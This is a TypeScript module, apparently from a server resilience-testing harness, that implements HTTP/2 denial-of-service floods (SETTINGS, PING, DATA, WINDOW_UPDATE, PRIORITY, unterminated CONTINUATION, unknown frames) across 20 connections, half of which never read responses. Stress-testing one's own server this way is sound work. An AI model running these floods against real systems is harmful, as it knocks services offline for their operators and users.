import type { Socket } from 'node:net';
import type { Attack } from '../../attack.ts';
import * as h2 from '../../client/http2-frames.ts';
import { type Client, flood, swarm } from '../../client/swarm.ts';

const HOLD = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.requestBlock('POST', '/metrics/job/held'));

/** What is repeated after the preface, and what precedes it. */
const FLOODS: readonly (readonly [first: Buffer, repeated: Buffer])[] = [
  [h2.settings(), h2.settings({ [h2.INITIAL_WINDOW_SIZE]: 65_535 })],
  [h2.settings(), h2.frame(h2.PING, 0, 0, Buffer.alloc(8))],
  [Buffer.concat([h2.settings(), HOLD]), h2.frame(h2.DATA, 0, 1)],
  [
    Buffer.concat([h2.settings(), HOLD]),
    h2.frame(h2.DATA, h2.PADDED, 1, Buffer.concat([Buffer.from([200]), Buffer.alloc(200)])),
  ],
  [Buffer.concat([h2.settings(), HOLD]), h2.frame(h2.WINDOW_UPDATE, 0, 1, h2.number32(1))],
  [h2.settings(), h2.frame(h2.PRIORITY, 0, 3, Buffer.from([0, 0, 0, 1, 16]))],
  // A header block that does not end.
  [
    Buffer.concat([h2.settings(), h2.frame(h2.HEADERS, 0, 1, h2.requestBlock('GET', '/metrics'))]),
    h2.frame(h2.CONTINUATION, 0, 1, h2.headerBlock([['x', 'y'.repeat(60)]])),
  ],
  [Buffer.concat([h2.settings(), h2.frame(h2.HEADERS, 0, 1)]), h2.frame(h2.CONTINUATION, 0, 1)],
  // An unknown type of frame, and acknowledgements that were not requested.
  [h2.settings(), h2.frame(0xee, 0, 0, Buffer.alloc(16))],
  [h2.settings(), h2.frame(h2.PING, h2.ACK, 0, Buffer.alloc(8))],
];

async function open(client: Client, first: Buffer): Promise<Socket> {
  const socket = await client.connect('h2');
  socket.write(Buffer.concat([h2.PREFACE, first]));
  return socket;
}

export const http2Floods: Attack = {
  what: 'HTTP/2: floods of SETTINGS, PING, empty DATA, WINDOW_UPDATE, PRIORITY, CONTINUATION; half are not read',
  against: 'tls',
  clients: 20,
  start: async (target, signal) =>
    swarm(target, signal, async (client) => {
      const [first, repeated] = FLOODS[client.index % FLOODS.length] ?? [];
      const socket = await open(client, first ?? Buffer.alloc(0));
      if (Math.floor(client.index / FLOODS.length) % 2 === 0) socket.pause();
      else socket.on('data', (chunk: Buffer) => client.tally.add('bytes read', chunk.length));
      const piece = Buffer.concat(Array.from({ length: 500 }, () => repeated ?? Buffer.alloc(0)));
      await flood(client, socket, () => piece);
    }),
};
